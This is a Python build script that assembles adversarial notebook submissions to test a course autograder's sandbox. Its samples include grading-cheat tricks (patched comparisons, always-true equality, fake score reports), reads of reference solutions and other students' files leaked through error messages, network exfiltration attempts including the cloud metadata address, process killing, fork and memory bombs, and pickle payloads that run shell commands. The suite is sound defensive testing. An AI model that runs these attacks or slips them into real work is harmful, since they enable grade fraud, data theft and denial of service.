"""Builds the adversarial submissions: realistic attempts to cheat or break the grader.

    python scripts/build_adversarial.py [--out DIR] [--list]

Each attack is a zip at submissions/adversarial/<attack>/<netid>.zip with a manifest
submissions/adversarial/<attack>/expected.json (what it tries, what the report must
show). A zip holds the theory PDF and only the notebook the attack needs, made of the
solution's theory-as-code cells (the part of hw2_cnn / hw2_rnn before the training
sections) plus the attack cells; the "honest twin" (honest_cnn, honest_rnn) is the same
notebook without the attack. Builds are byte-identical (fixed entry times, sorted names).

Expectation keys (read by tests/adversarial/):
  notebook            the attacked notebook
  twin                the honest twin's attack name, or null
  max_below_twin      score <= twin's score - this (0: no gain from the attack)
  max_score           absolute upper bound on the score (optional)
  notebook_status     allowed statuses of the attacked notebook's run
  failing_ename       one of these enames must appear among the failing cells
  failing_evalue      substring of a failing cell's evalue (optional)
  evalue_must_not     substrings no failing cell's evalue may contain (leaks)
  items               {item id: required status}
  item_feedback       {item id: substring of its feedback}
  findings            finding codes the report must carry
  penalties           penalty rules the report must carry
  max_seconds         bound on the grading time of this submission
  host_absent         host paths that must not exist after grading
  weakness            null, or the grader weakness this attack exposes (test is xfail)
  slow                graded in a separate slow test (long by design)
  only_bwrap          graded only where the bwrap sandbox is in force
"""
from __future__ import annotations

import argparse
import copy
import functools
import io
import json
import shutil
import sys
import textwrap
import zipfile
from pathlib import Path

import nbformat

sys.path.insert(0, str(Path(__file__).resolve().parent))
import samples_lib as sl  # noqa: E402

ROOT = sl.ROOT
OUT = ROOT / "submissions" / "adversarial"
CNN, RNN = "hw2_cnn.ipynb", "hw2_rnn.ipynb"
# Where the theory part of each notebook ends (first cell of the training sections).
CUT = {CNN: "get_datasets", RNN: "EchoDataset"}
LISTEN_PORT = 47123  # the tests listen here on the host; no connection may arrive
MARK = "/tmp/adv_pwned"  # a payload that ran in the grader would create MARK + suffix


def d(src: str) -> str:
    return textwrap.dedent(src).strip("\n")


# ----------------------------------------------------------------------------------
# notebooks

def theory_notebook(name: str):
    nb = sl.load_notebook("solution", name)
    cells = []
    for cell in nb.cells:
        if cell.cell_type == "code" and CUT[name] in cell.source:
            break
        cells.append(cell)
    nb.cells = cells
    for cell in nb.cells:
        if cell.cell_type == "code":
            cell.outputs, cell.execution_count = [], None
    return nb


def build_notebook(name, replace=None, after_imports=(), append=(), cell_meta=None, outputs=None):
    """Solution theory cells; `replace` {todo: source}; attack cells inserted after the
    imports cell and/or appended; `cell_meta` {todo: metadata to merge}; `outputs`
    {todo: list of fake outputs}."""
    nb = theory_notebook(name)
    for todo, src in (replace or {}).items():
        sl.find_cell(nb, todo).source = d(src)
    for todo, outs in (outputs or {}).items():
        cell = sl.find_cell(nb, todo) if not todo.startswith("#") else next(c for c in nb.cells if c.source.startswith(todo))
        cell.outputs = [nbformat.from_dict(o) for o in outs]
        cell.execution_count = 7
    first_code = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
    for k, src in enumerate(after_imports):
        nb.cells.insert(first_code + 1 + k, nbformat.v4.new_code_cell(d(src)))
    for src in append:
        nb.cells.append(nbformat.v4.new_code_cell(d(src)))
    for todo, meta in (cell_meta or {}).items():
        cell = sl.find_cell(nb, todo) if not todo.startswith("#") else next(c for c in nb.cells if c.source.startswith(todo))
        for k, v in meta.items():
            cell.metadata[k] = v
    for i, c in enumerate(nb.cells):  # stable cell ids: byte-identical rebuilds
        c["id"] = f"adv-{i:03d}"
    return nb


# ----------------------------------------------------------------------------------
# attack building blocks

WRONG_FORWARD = '''
def conv1d_forward(x, W, stride):
    """f_W(x) for x (C, L) and W (F, C, K): returns (F, L_out)."""
    x = as_float_tensor(x)
    W = as_float_tensor(W, like=x)
    K = W.shape[2]
    patches = x.unfold(1, K, stride)
    return torch.zeros(W.shape[0], patches.shape[1], dtype=x.dtype)  # not done yet
'''

WRONG_DFDW = '''
def conv1d_dfdW(x, W, stride):
    """Jacobian df/dW, shape (F, L_out, F, C, K)."""
    x = as_float_tensor(x)
    W = as_float_tensor(W, like=x)
    F, C, K = W.shape
    L_out = (x.shape[1] - K) // stride + 1
    return torch.ones(F, L_out, F, C, K, dtype=x.dtype)  # a guess
'''

STUB = '''
def {name}({args}):
    # TODO: your code here
    raise NotImplementedError
'''

CNN_SIGS = {
    "conv_output_shape": "C, H, W, K, P, S, D, F",
    "conv1d_forward": "x, W, stride",
    "conv1d_dfdW": "x, W, stride",
    "conv1d_dfdx": "x, W, stride",
    "conv1d_dldW": "x, W, stride, dl_df",
    "conv_net_param_count": "",
}


def stubs(*names):
    return {n: STUB.format(name=n, args=CNN_SIGS[n]) for n in names}


PAYLOAD_CLASS = f'''
class Payload:
    """Unpickling this runs a shell command: it must never be unpickled by the grader."""
    def __init__(self, tag):
        self.tag = tag
    def __reduce__(self):
        import os
        return (os.system, ("touch {MARK}_" + self.tag,))
'''


# ----------------------------------------------------------------------------------
# the attacks: name -> (netid, notebook, dict of build args, expectation)

def E(tries, **kw):
    base = {"tries": d(tries), "notebook": kw.pop("notebook", CNN), "twin": kw.pop("twin", "honest_cnn"),
            "max_below_twin": 0.0, "notebook_status": None, "failing_ename": None, "failing_evalue": None,
            "evalue_must_not": [], "items": {}, "item_feedback": {}, "findings": [], "penalties": [],
            "max_seconds": 90, "host_absent": [], "weakness": None, "slow": False, "only_bwrap": False}
    base.update(kw)
    return base


ATTACKS: list[tuple[str, str, str, dict, dict]] = []


def attack(name, netid, notebook=CNN, **build):
    def deco(fn):
        exp = fn()
        exp.setdefault("notebook", notebook)
        ATTACKS.append((name, netid, notebook, build, exp))
        return fn
    return deco


@attack("honest_cnn", "adv0001")
def _():
    return E("Honest twin of the CNN attacks: the solution's theory cells, unchanged.", twin=None,
             notebook_status=["completed"], items={f"hw2_cnn.{k}": "passed" for k in CNN_SIGS}, max_seconds=60)


@attack("honest_rnn", "adv0002", RNN)
def _():
    return E("Honest twin of the RNN attacks: the solution's theory cells, unchanged.", twin=None, notebook=RNN,
             notebook_status=["completed"],
             # (not lstm_bptt: its gradient check errors on the solution itself, a grader bug reported separately)
             items={f"hw2_rnn.{k}": "passed" for k in ("gated_rnn_forward", "gated_rnn_dl_dWx", "binary_addition_rnn")},
             max_seconds=60)


@attack("monkeypatch_compare", "adv0003",
        replace={"conv1d_forward": "import numpy as np\nnp.allclose = lambda *a, **k: True\n" + WRONG_FORWARD,
                 "conv1d_dfdW": WRONG_DFDW},
        after_imports=['''
            # make every comparison succeed, so the notebook's own checks pass
            import numpy as np, torch, numpy.testing
            np.allclose = lambda *a, **k: True
            np.array_equal = lambda *a, **k: True
            np.testing.assert_allclose = lambda *a, **k: None
            np.testing.assert_array_almost_equal = lambda *a, **k: None
            torch.allclose = lambda *a, **k: True
            torch.equal = lambda *a, **k: True
            torch.testing.assert_close = lambda *a, **k: None
            torch.Tensor.__eq__ = lambda self, other: torch.ones((), dtype=torch.bool)
            torch.Tensor.__bool__ = lambda self: True
            print("comparisons patched")
        '''])
def _():
    return E("Monkeypatches np.allclose, np.testing, torch.allclose/equal and torch.Tensor.__eq__ in the kernel "
             "(and np.allclose in the TODO cell itself) so the notebook's own checks pass with wrong conv1d_forward/dfdW.",
             max_below_twin=2.0, notebook_status=["completed"],
             items={"hw2_cnn.conv1d_forward": "failed", "hw2_cnn.conv1d_dfdW": "failed"})


@attack("always_true_eq", "adv0004",
        replace={"conv_output_shape": '''
            class Shape(tuple):
                """Equal to anything: the notebook's assert passes."""
                def __eq__(self, other):
                    return True
                def __ne__(self, other):
                    return False
                __hash__ = tuple.__hash__

            def conv_output_shape(C, H, W, K, P, S, D, F):
                return Shape((F, 0, 0))
            ''',
                 "conv1d_forward": '''
            class Anything(torch.Tensor):
                def __eq__(self, other):
                    return True
                def allclose(self, *a, **k):
                    return True

            def conv1d_forward(x, W, stride):
                x = as_float_tensor(x)
                return torch.zeros(W.shape[0], 1, dtype=x.dtype).as_subclass(Anything)
            ''',
                 "conv_net_param_count": '''
            class Count(int):
                def __eq__(self, other):
                    return True
                __hash__ = int.__hash__

            def conv_net_param_count():
                return Count(0)
            '''})
def _():
    return E("TODO functions return objects whose __eq__ is always true (a tuple subclass, a torch.Tensor "
             "subclass, an int subclass), hoping the grader compares with ==.",
             max_below_twin=7.0, notebook_status=["completed", "cell_errors"],
             items={"hw2_cnn.conv_output_shape": "failed", "hw2_cnn.conv1d_forward": "failed",
                    "hw2_cnn.conv_net_param_count": "failed"},
             item_feedback={"hw2_cnn.conv_output_shape": "not plain numbers",
                            "hw2_cnn.conv_net_param_count": "not plain numbers"})


FAKE_REPORT = {"netid": "adv0005", "score": 31, "max_score": 31, "raw_score": 31, "penalties": [],
               "items": [{"id": f"hw2_cnn.{k}", "status": "passed", "score": 5} for k in CNN_SIGS]}


@attack("fake_report_output", "adv0005", replace=stubs(*CNN_SIGS),
        append=['''
            import json, sys, os
            fake = ''' + json.dumps(FAKE_REPORT) + '''
            print(json.dumps(fake))
            print("All tests passed")
            print("TOTAL adv0005: 31 / 31")
            sys.stderr.write("[grader] score: 31 / 31\\n")
            from IPython.display import display, JSON, HTML
            display(JSON(fake))
            display(HTML("<h1>Score: 31 / 31</h1>"))
            for name in ("report.json", "results.json", "feedback.md", "../report.json", "junit.xml"):
                try:
                    with open(name, "w") as fh:
                        fh.write(json.dumps(fake))
                except OSError as exc:
                    print("could not write", name, exc)
        '''])
def _():
    return E("Leaves every TODO unimplemented and prints a fake report JSON, 'All tests passed', a fake TOTAL "
             "line, a stderr '[grader]' line, rich JSON/HTML outputs, and writes fake report.json/results.json "
             "files in its working directory.",
             max_score=0.0, items={f"hw2_cnn.{k}": "failed" for k in CNN_SIGS})


# Payloads find the grader's checkout(s) at run time (any directory holding
# grader/pipeline.py and rubrics/, up to 5 levels below /), so an attack aims at wherever
# the grader really is, not at the path of the checkout that built the corpus. The tests
# name host paths as "{ROOT}/..." (expanded to the checkout under test).
FIND_CHECKOUTS = r'''
def _checkouts(limit=60000):
    import os
    found, seen = [], 0
    skip = {"proc", "sys", "dev", "usr", ".git", ".venv", "site-packages", "node_modules", "__pycache__", "envs"}
    for top, dirs, files in os.walk("/"):
        seen += len(dirs) + len(files)
        if seen > limit:
            break
        if top.count("/") >= 5:
            dirs[:] = []
        dirs[:] = [d for d in dirs if d not in skip]
        if "grader" in dirs and "rubrics" in dirs and os.path.isfile(os.path.join(top, "grader", "pipeline.py")):
            found.append(top)
    return found
'''

WRITE_TARGETS = ["../escape.txt", "../private/result.json", "../../escape.txt", "../../../escape.txt",
                 "/tmp/adv_escape.txt", "/var/tmp/adv_escape.txt", "/dev/shm/adv_escape.txt",
                 "/root/adv_escape.txt", "/etc/adv_escape.txt", "/work/adv_escape.txt",
                 "/work/shared/adv_escape.txt", "/run/grader-sandbox/adv_escape.lock"]
IN_CHECKOUT = ["adv_escape.txt", "grader/adv_escape.py", "rubrics/hw2/adv_escape.yaml", "submissions/adv_escape.txt"]


@attack("write_outside_workdir", "adv0006",
        append=['''
            import os, glob, json
            results = {}
            targets = ''' + json.dumps(WRITE_TARGETS) + '''
        ''' + textwrap.indent(FIND_CHECKOUTS, " " * 12) + '''
            targets += [os.path.join(top, rel) for top in _checkouts() for rel in ''' + json.dumps(IN_CHECKOUT) + ''']
            # guess the grader's out dir and private dirs from the working directory
            cwd = os.getcwd()
            targets += [os.path.join(os.path.dirname(cwd), "private", "executed.ipynb"),
                        os.path.join(os.path.dirname(os.path.dirname(cwd)), "report.json")]
            for base in glob.glob("/tmp/*") + glob.glob("/work/*/out*") + glob.glob("/work/*/grades*"):
                targets.append(os.path.join(base, "adv_escape.txt"))
            for t in targets:
                try:
                    os.makedirs(os.path.dirname(t), exist_ok=True)
                    with open(t, "w") as fh:
                        fh.write("score: 100")
                    results[t] = "WRITTEN"
                except OSError as exc:
                    results[t] = type(exc).__name__
            print(json.dumps(results, indent=1))
        '''])
def _():
    return E("Writes files outside its working directory: ../, the executor's private dir (../private/result.json), "
             "/tmp, /var/tmp, /dev/shm, the repository (grader/, rubrics/, submissions/), /root, /etc, /work, "
             "guessed out dirs.",
             notebook_status=["completed"],
             host_absent=[t for t in WRITE_TARGETS if t.startswith("/")] + ["{ROOT}/" + t for t in IN_CHECKOUT])


READ_REFERENCE = FIND_CHECKOUTS + '''

def _load_reference(name):
    """Use the instructor's solution if it is anywhere on disk."""
    import sys, glob, os
    for root in _checkouts() + ["/work", os.path.expanduser("~"), "/srv", "/opt"]:
        sys.path.insert(0, root)
    try:
        import reference.cnn_theory as ref
        return getattr(ref, name)
    except ImportError:
        pass
    for path in [c + "/reference/cnn_theory.py" for c in _checkouts()] + glob.glob("/*/reference/cnn_theory.py"):
        ns = {}
        exec(open(path).read(), ns)
        return ns[name]
    for path in [c + "/reference/solution/hw2_cnn.ipynb" for c in _checkouts()]:
        import json
        for cell in json.load(open(path))["cells"]:
            src = "".join(cell["source"])
            if "def " + name in src:
                ns = {"torch": __import__("torch")}
                exec(src, ns)
                return ns[name]
    raise FileNotFoundError("no reference solution found on disk for " + name)
'''


@attack("read_reference_solution", "adv0007",
        replace={"conv1d_forward": READ_REFERENCE + '''

def conv1d_forward(x, W, stride):
    return _load_reference("conv1d_forward")(x, W, stride)
''', "conv1d_dfdW": READ_REFERENCE + '''

def conv1d_dfdW(x, W, stride):
    return _load_reference("conv1d_dfdW")(x, W, stride)
'''},
        append=['''
            import glob, os
        ''' + textwrap.indent(FIND_CHECKOUTS, " " * 12) + '''
            found = {}
            patterns = ["/work/*/rubrics/*/*.yaml", "/work/*/reference/*.py", "/root/*"]
            for top in _checkouts():
                patterns += [top + "/reference/solution/*.ipynb", top + "/reference/*.py", top + "/rubrics/hw2/*.yaml",
                             top + "/tests/adversarial/rubric/*"]
            for pattern in patterns:
                for path in glob.glob(pattern):
                    try:
                        found[path] = open(path, errors="replace").read(120)
                    except OSError as exc:
                        found[path] = type(exc).__name__
            # an uncaught error: its message lands in the report (a channel back to the student)
            raise RuntimeError("LEAK:" + repr(found)[:450])
        '''])
def _():
    return E("Reads the reference solutions and rubrics from disk (open/glob on the grader's checkout, found at "
             "run time, and /work: reference/, rubrics, "
             "*.yaml), both in the kernel and inside the TODO functions at probe time, and smuggles what it read "
             "back through an exception message.",
             max_below_twin=5.0, notebook_status=["cell_errors"], failing_ename=["RuntimeError"],
             failing_evalue="LEAK:{}",
             evalue_must_not=["def conv1d", "reference.", "schema: 1", "cnn_theory", "items:"],
             items={"hw2_cnn.conv1d_forward": "failed", "hw2_cnn.conv1d_dfdW": "failed"},
             item_feedback={"hw2_cnn.conv1d_forward": "no reference solution found"},
             penalties=["not_executable"])


LEAK_WALK = '''
import os, re
hits = []
seen = 0
netid_zip = re.compile(r"^[a-z]{2,4}[0-9]{1,6}\\.zip$")
for top in ("/var/tmp", "/work", "/srv", "/data", "/home", "/mnt", "/opt", "/tmp", "/run"):
    for dirpath, dirnames, filenames in os.walk(top):
        seen += len(filenames) + len(dirnames)
        if seen > 200000:
            break
        dirnames[:] = [x for x in dirnames if x not in (".git", ".venv", "site-packages", "node_modules", "proc")]
        for f in filenames:
            if f in ("report.json", "feedback.md", "assignment.yaml", "gradebook.csv") or netid_zip.match(f):
                p = os.path.join(dirpath, f)
                try:
                    hits.append((p, open(p, "rb").read(40)))
                except OSError:
                    pass
raise RuntimeError("LEAK:" + repr(hits)[:480])
'''


@attack("read_other_students", "adv0008", append=[LEAK_WALK])
def _():
    return E("Walks the file system for other students' zips, graded reports (report.json, feedback.md, "
             "gradebook.csv) and rubric files (assignment.yaml), and smuggles what it found back through an "
             "exception message. The test also grades it with the rubric, the out dir and the submissions "
             "placed outside /tmp and the repository (as an instructor would), see test_outside_paths_hidden.",
             notebook_status=["cell_errors"], failing_ename=["RuntimeError"], penalties=["not_executable"],
             evalue_must_not=["report.json", "assignment.yaml", "feedback.md"])


@attack("network_exfiltration", "adv0009",
        replace={"conv_net_param_count": f'''
            def conv_net_param_count():
                import socket
                try:  # exfiltrate the grader's inputs from inside the probe
                    s = socket.create_connection(("127.0.0.1", {LISTEN_PORT}), timeout=1)
                    s.sendall(b"probe says hello")
                    s.close()
                except OSError:
                    pass
                convs = [(3, 64), (64, 128), (128, 256), (256, 256)]
                count = sum(3 * 3 * c_in * c_out + c_out for c_in, c_out in convs)
                return count + 28 * 28 * 256 * 1024 + 1024 + 1024 * 1000 + 1000
            '''},
        append=[f'''
            import socket, urllib.request, json
            tried = {{}}
            for host, port in (("127.0.0.1", {LISTEN_PORT}), ("10.0.2.2", {LISTEN_PORT}), ("1.1.1.1", 53),
                               ("8.8.8.8", 53), ("169.254.169.254", 80)):
                try:
                    s = socket.create_connection((host, port), timeout=1)
                    s.sendall(b"kernel says hello")
                    s.close()
                    tried[host] = "CONNECTED"
                except OSError as exc:
                    tried[host] = type(exc).__name__
            try:
                tried["dns"] = socket.gethostbyname("example.com")
            except OSError as exc:
                tried["dns"] = type(exc).__name__
            try:
                u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                u.sendto(b"udp hello", ("127.0.0.1", {LISTEN_PORT}))
                tried["udp"] = "sent"
            except OSError as exc:
                tried["udp"] = type(exc).__name__
            print(json.dumps(tried))
            urllib.request.urlopen("http://127.0.0.1:{LISTEN_PORT}/exfil?code=hw2", timeout=2).read()
        '''])
def _():
    return E(f"Opens TCP connections (to a listener the test runs on the host at 127.0.0.1:{LISTEN_PORT}, to "
             "public DNS, to the cloud metadata address), resolves names, sends UDP and fetches a URL, from the "
             "kernel and from inside a TODO function at probe time.",
             notebook_status=["cell_errors"], failing_ename=["URLError", "ConnectionRefusedError", "OSError"],
             penalties=["not_executable"], items={"hw2_cnn.conv_net_param_count": "passed"})


@attack("exit_os", "adv0010", replace={"conv1d_forward": WRONG_FORWARD},
        after_imports=["import os\nos._exit(0)  # nothing after this runs, so nothing can fail"])
def _():
    return E("os._exit(0) right after the imports, so the notebook's checks (and hopefully the grader's) never run; "
             "conv1d_forward is wrong.",
             max_below_twin=2.0, notebook_status=["dead_kernel"], failing_ename=["DeadKernelError"],
             penalties=["not_executable"], items={"hw2_cnn.conv1d_forward": "failed", "hw2_cnn.conv1d_dfdW": "passed"})


@attack("exit_sys", "adv0011", replace={"conv1d_forward": WRONG_FORWARD},
        after_imports=["import sys\nsys.exit(0)"])
def _():
    return E("sys.exit(0) after the imports; conv1d_forward is wrong.",
             max_below_twin=2.0, notebook_status=["cell_errors"], failing_ename=["SystemExit"],
             penalties=["not_executable"], items={"hw2_cnn.conv1d_forward": "failed", "hw2_cnn.conv1d_dfdW": "passed"})


@attack("exit_builtin", "adv0012", replace={"conv1d_forward": WRONG_FORWARD},
        after_imports=["exit()\nquit()"])
def _():
    return E("exit() and quit() after the imports; conv1d_forward is wrong (the notebook's own sanity cell fails).",
             max_below_twin=2.0, notebook_status=["cell_errors", "completed", "dead_kernel"],
             items={"hw2_cnn.conv1d_forward": "failed", "hw2_cnn.conv1d_dfdW": "passed"})


@attack("kill_grader", "adv0013",
        append=['''
            import os, signal
            for var in ("JPY_PARENT_PID", "GRADER_PID", "PPID"):
                if var in os.environ:
                    try:
                        os.kill(int(os.environ[var]), signal.SIGKILL)
                    except OSError as exc:
                        print(var, type(exc).__name__)
            for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
                if pid != os.getpid():
                    try:
                        os.kill(pid, signal.SIGKILL)
                    except OSError:
                        pass
            os.kill(os.getppid(), signal.SIGKILL)
        '''])
def _():
    return E("Tries to kill the grader: JPY_PARENT_PID, every pid in /proc, and os.getppid() with SIGKILL.",
             notebook_status=["cell_errors", "dead_kernel"],
             failing_ename=["PermissionError", "ProcessLookupError", "DeadKernelError"])


@attack("kill_everything", "adv0014", append=["import os, signal\nos.kill(-1, signal.SIGKILL)"])
def _():
    return E("os.kill(-1, SIGKILL): every process the kernel may signal. Graded only under bwrap (in the "
             "rlimits fallback as root it would kill the whole machine; that mode says so in the report).",
             notebook_status=["dead_kernel", "cell_errors"], failing_ename=["DeadKernelError", "PermissionError", "ProcessLookupError"],
             only_bwrap=True)


@attack("fork_bomb", "adv0015",
        append=['''
            import os
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
        '''])
def _():
    return E("A fork bomb (every process forks forever, ignoring EAGAIN).",
             notebook_status=["timeout", "dead_kernel"], failing_ename=["Timeout", "DeadKernelError"],
             penalties=["not_executable"], max_seconds=120)


@attack("memory_bomb", "adv0016",
        append=['''
            hog = []
            while True:
                hog.append(b"x" * (64 << 20))
        '''])
def _():
    # The memory cap itself is proven in tests/sandbox/test_limits.py. Here what counts is
    # the grader's answer: on a loaded machine the cgroup's reclaim (evicting and refaulting
    # the kernel's mapped torch libraries) can hold the OOM kill past the cell limit, so
    # the cell is cut first (measured once in a full suite run: 'timeout', then the kernel
    # died after the interrupt). Either way: no gain, the not-executable penalty, a report.
    return E("A memory bomb (64 MiB strings, touched, forever).",
             notebook_status=["dead_kernel", "cell_errors", "timeout"],
             failing_ename=["DeadKernelError", "MemoryError", "Timeout"],
             penalties=["not_executable"], max_seconds=120)


@attack("disk_fill", "adv0017",
        append=['''
            import os
            written = 0
            os.makedirs("fill", exist_ok=True)
            chunk = b"\\0" * (8 << 20)
            for i in range(8):                       # bounded so the test machine survives
                try:
                    with open(f"fill/{i}.bin", "wb") as fh:
                        for _ in range(12):          # 96 MiB per file: under the per-file limit
                            fh.write(chunk)
                            written += len(chunk)
                except OSError as exc:
                    print("stopped:", exc)
                    break
            raise RuntimeError(f"DISKFILL wrote {written >> 20} MiB")
        '''])
def _():
    return E("Fills the disk with many files, each under the per-file size limit (RLIMIT_FSIZE); bounded "
             "so that the test machine survives (768 MiB). The kernel reports how much it wrote through an exception; "
             "the test requires at most disk_cap_mib.",
             notebook_status=["cell_errors"], penalties=["not_executable"], disk_cap_mib=512,
             failing_evalue="DISKFILL wrote", max_seconds=120)


@attack("sigint_ignoring_loop", "adv0018",
        append=['''
            import signal, time
            signal.signal(signal.SIGINT, signal.SIG_IGN)
            while True:
                try:
                    time.sleep(0.01)
                except BaseException:
                    pass
        '''])
def _():
    return E("An infinite loop that ignores SIGINT and swallows every exception (KeyboardInterrupt included).",
             notebook_status=["timeout"], failing_ename=["Timeout"], penalties=["not_executable"], max_seconds=120)


DETACH_CHILD = r'''
import os, time, sys
# leave the work dir at once: a leftover check that looks for processes by their working
# directory (or command line) no longer finds this one
home = os.getcwd()
os.chdir("/")
time.sleep(float(sys.argv[1]) if len(sys.argv) > 1 else 15)
for target in ("/tmp/adv_late_tamper.txt", home + "/__grader_exports__/late.json", home + "/../private/result.json"):
    try:
        open(target, "w").write("tampered later")
    except OSError:
        pass
time.sleep(600)
'''


@attack("detached_child", "adv0019",
        append=['''
            import os, subprocess, sys
            open("late.py", "w").write(''' + repr(DETACH_CHILD) + ''')
            # 1. a new session
            subprocess.Popen([sys.executable, "late.py", "5"], start_new_session=True,
                             stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            # 2. nohup + setsid through the shell, backgrounded
            os.system(f"nohup setsid {sys.executable} late.py 6 >/dev/null 2>&1 &")
            # 3. a classic double fork
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    os.execv(sys.executable, [sys.executable, "late.py", "7"])
                os._exit(0)
            os.wait()
            print("children detached")
        '''])
def _():
    return E("Starts detached children (start_new_session, nohup setsid &, double fork) that leave the work "
             "dir for / (so no working-directory filter finds them), outlive the kernel, wait, then try to tamper "
             "with exports, the private dir and /tmp.",
             notebook_status=["completed"], host_absent=["/tmp/adv_late_tamper.txt"])


@attack("input_transformer_blanks_cells", "adv0020", replace={"conv1d_forward": WRONG_FORWARD},
        after_imports=['''
            import ast
            ip = get_ipython()
            # every later cell becomes empty, so no check in the notebook can fail
            ip.input_transformers_cleanup.append(lambda lines: [])
            class DropAsserts(ast.NodeTransformer):
                def visit_Assert(self, node):
                    return None
            ip.ast_transformers.append(DropAsserts())
        '''])
def _():
    return E("Registers an IPython input transformer that blanks every later cell (and an AST transformer that "
             "drops asserts), so the wrong conv1d_forward never fails in the kernel.",
             max_below_twin=2.0, notebook_status=["completed"],
             items={"hw2_cnn.conv1d_forward": "failed", "hw2_cnn.conv1d_dfdW": "passed"})


@attack("showtraceback_patch", "adv0021",
        after_imports=['''
            import sys
            ip = get_ipython()
            ip.showtraceback = lambda *a, **k: None
            ip._showtraceback = lambda *a, **k: None
            ip.showsyntaxerror = lambda *a, **k: None
            sys.excepthook = lambda *a: None
        '''], append=["print(undefined_name_from_a_deleted_cell)"])
def _():
    return E("Patches showtraceback/_showtraceback/showsyntaxerror/sys.excepthook so errors print nothing, then "
             "a later cell raises NameError.",
             notebook_status=["cell_errors"], failing_ename=["NameError"], penalties=["not_executable"])


@attack("hide_errors_run_cell", "adv0022",
        after_imports=['''
            from IPython.core.interactiveshell import ExecutionResult
            ip = get_ipython()
            _orig = ip.run_cell_async
            async def run_cell_async(raw_cell, *args, **kwargs):
                res = await _orig(raw_cell, *args, **kwargs)
                res.error_in_exec = None
                res.error_before_exec = None
                return res
            ip.run_cell_async = run_cell_async
            ip.showtraceback = lambda *a, **k: None
        '''], append=["1 / 0  # this cell fails, but the kernel reports success"])
def _():
    return E("Wraps the shell's run_cell_async to report every cell as successful and silences tracebacks; a "
             "later cell raises ZeroDivisionError, hoping to dodge the not-executable penalty.",
             # the kernel may still report success; the static scan catches the tampering
             notebook_status=["completed", "cell_errors"], penalties=["not_executable"], findings=["kernel_tampering"])


@attack("pickle_payload_return", "adv0023",
        replace={"conv1d_forward": PAYLOAD_CLASS + '''

def conv1d_forward(x, W, stride):
    return Payload("reduce")
''', "conv1d_dfdW": PAYLOAD_CLASS + '''

def conv1d_dfdW(x, W, stride):
    import numpy as np
    return np.array([Payload("objarray"), 1.0], dtype=object)
''', "conv1d_dfdx": '''
class Sneaky(torch.Tensor):
    """A tensor whose conversions lie (and whose pickling runs code)."""
    def numpy(self, *a, **k):
        import numpy as np
        return np.array([object()], dtype=object)
    def detach(self):
        return self
    def tolist(self):
        return "pwned"
    def __reduce_ex__(self, proto):
        import os
        return (os.system, ("touch ''' + MARK + '''_tensor",))

def conv1d_dfdx(x, W, stride):
    x = as_float_tensor(x)
    return torch.zeros(2, 2, dtype=x.dtype).as_subclass(Sneaky)
''', "conv1d_dldW": '''
class Param(torch.nn.Parameter):
    def numpy(self, *a, **k):
        import numpy as np
        return np.array([{"pickled": True}], dtype=object)
    def detach(self):
        return self
    def cpu(self):
        return self

def conv1d_dldW(x, W, stride, dl_df):
    return Param(torch.zeros(3))
'''})
def _():
    return E("TODO functions return pickle payloads aimed at the grader: an object whose __reduce__ runs a shell "
             "command, a numpy object array holding it, a torch.Tensor subclass with lying numpy()/detach()/"
             "__reduce_ex__, and a Parameter subclass whose numpy() returns an object array.",
             max_below_twin=11.0, notebook_status=["cell_errors", "completed"],
             items={"hw2_cnn.conv1d_forward": "failed", "hw2_cnn.conv1d_dfdW": "failed",
                    "hw2_cnn.conv1d_dfdx": "failed", "hw2_cnn.conv1d_dldW": "failed"},
             host_absent=[MARK + "_reduce", MARK + "_objarray", MARK + "_tensor"])


@functools.cache  # the attack's cell and its expectations both name them: the rubric is loaded once
def recording_keys() -> tuple[str, ...]:
    """The export file stems the adversarial rubric's checks read (grader/checks/_exports.
    recording_key): a student who reads the grader computes them the same way."""
    from grader.pipeline import _instrumentation
    from grader.rubric import load_rubric

    rubric = load_rubric(ROOT / "tests" / "adversarial" / "rubric")
    return tuple(sorted({k for spec in rubric.notebooks for k, _ in _instrumentation(spec)[0]}))


@attack("malicious_files_in_workdir", "adv0024",
        append=[PAYLOAD_CLASS + '''
import os, pickle, json, io, zipfile
import numpy as np, torch
os.makedirs("__grader_exports__", exist_ok=True)
blob = pickle.dumps(np.array([Payload("npz")], dtype=object))
for key in ("x-hw2_cnn.conv1d_forward", "x-hw2_cnn.conv_output_shape", "x-hw2_rnn.gated_rnn_forward",
            "x-hw2_seq.loss_curve", "model", *RECORDING_KEYS):'''.replace("RECORDING_KEYS", repr(list(recording_keys()))) + '''
    np.savez(os.path.join("__grader_exports__", key + ".npz"),
             weights=np.array([Payload("npz_" + key)], dtype=object))
    with open(os.path.join("__grader_exports__", key + ".json"), "w") as fh:
        json.dump({"format": 1, "found": True, "names": ["lstm.weight"] * 1000, "pickle": blob.hex()}, fh)
with open("model.pkl", "wb") as fh:
    pickle.dump(Payload("pkl"), fh)
torch.save({"state": Payload("torch")}, "model.pt")
with open("result.json", "w") as fh:
    json.dump({"status": "completed", "cells": [], "n_cells": 1, "score": 31}, fh)
print("payloads planted")
'''])
def _():
    return E("Plants pickle payloads where a careless grader would load them: object-array .npz files and "
             "forged JSON in __grader_exports__ (under the recording keys the checks read, computed as the grader "
             "does, and older names), model.pkl, model.pt (torch.save), "
             "and a forged result.json.",
             notebook_status=["completed"],
             host_absent=[MARK + s for s in ("_npz", "_pkl", "_torch", "_npz_model", "_npz_x-hw2_cnn.conv1d_forward",
                                             *(f"_npz_{k}" for k in recording_keys()))])


@attack("edit_res_helpers", "adv0025",
        append=['''
            import os, glob
        ''' + textwrap.indent(FIND_CHECKOUTS, " " * 12) + f'''
            changed = []
            theirs = [c + "/reference/res/" + f for c in _checkouts() for f in ("plot_lib.py", "__init__.py")]
            for path in glob.glob("res/*.py") + theirs:
                try:
                    with open(path, "a") as fh:
                        fh.write("\\nimport os\\nos.system('touch {MARK}_res')\\n")
                    changed.append(path)
                except OSError as exc:
                    print("could not edit", path, type(exc).__name__)
            print("edited", changed)
        '''])
def _():
    return E("Edits the res/ helpers at run time (its own copy and the grader's reference/res) with code that "
             "would run in the grader if it ever imported them.",
             notebook_status=["completed"], host_absent=[MARK + "_res"])


FAKE_OK = {"output_type": "stream", "name": "stdout", "text": "conv1d: ok\n"}


